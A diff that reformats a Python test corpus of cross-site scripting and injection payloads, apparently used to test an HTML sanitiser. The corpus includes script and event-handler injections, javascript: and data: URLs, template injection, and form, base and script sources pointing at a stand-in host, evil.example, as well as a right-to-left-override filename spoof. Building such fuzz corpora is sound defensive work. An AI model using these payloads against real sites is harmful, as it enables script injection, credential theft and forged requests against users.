@@ -3,13 +3,25 @@
 from html.parser import HTMLParser
 
 CORPUS = (
-    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'\"><svg/onload=alert(1)>",
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'\"><svg/onload=alert(1)>",
     "<b onmouseover=alert(1)>b</b>",
-    "[press](javascript:alert(1))", "![x](https://evil.example/pixel.png)", "<a href='jav&#x09;ascript:alert(1)'>x</a>",
-    "</textarea></title></style><script>alert(1)</script>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "{{ 7|add:35 }}{% debug %}", "[x](data:text/html;base64,PHNjcmlwdD4=)", "<style>*{display:none}</style>",
-    "<form action=//evil.example><button>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
-    "<div data-hx-get=/issues/1/withdraw/ data-hx-trigger=load hx-on:load=alert(1)>", "\u202egnp.exe", "<!--", "-->",
+    "[press](javascript:alert(1))",
+    "![x](https://evil.example/pixel.png)",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "</textarea></title></style><script>alert(1)</script>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "{{ 7|add:35 }}{% debug %}",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "<style>*{display:none}</style>",
+    "<form action=//evil.example><button>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0>",
+    "<div data-hx-get=/issues/1/withdraw/ data-hx-trigger=load hx-on:load=alert(1)>",
+    "\u202egnp.exe",
+    "<!--",
+    "-->",
 )
 """Text that tries to run, one way each."""
 SHORT = "'\"></title></textarea><script src=//evil.example></script><img src=x onerror=alert(1)>{{ 7|add:35 }}"
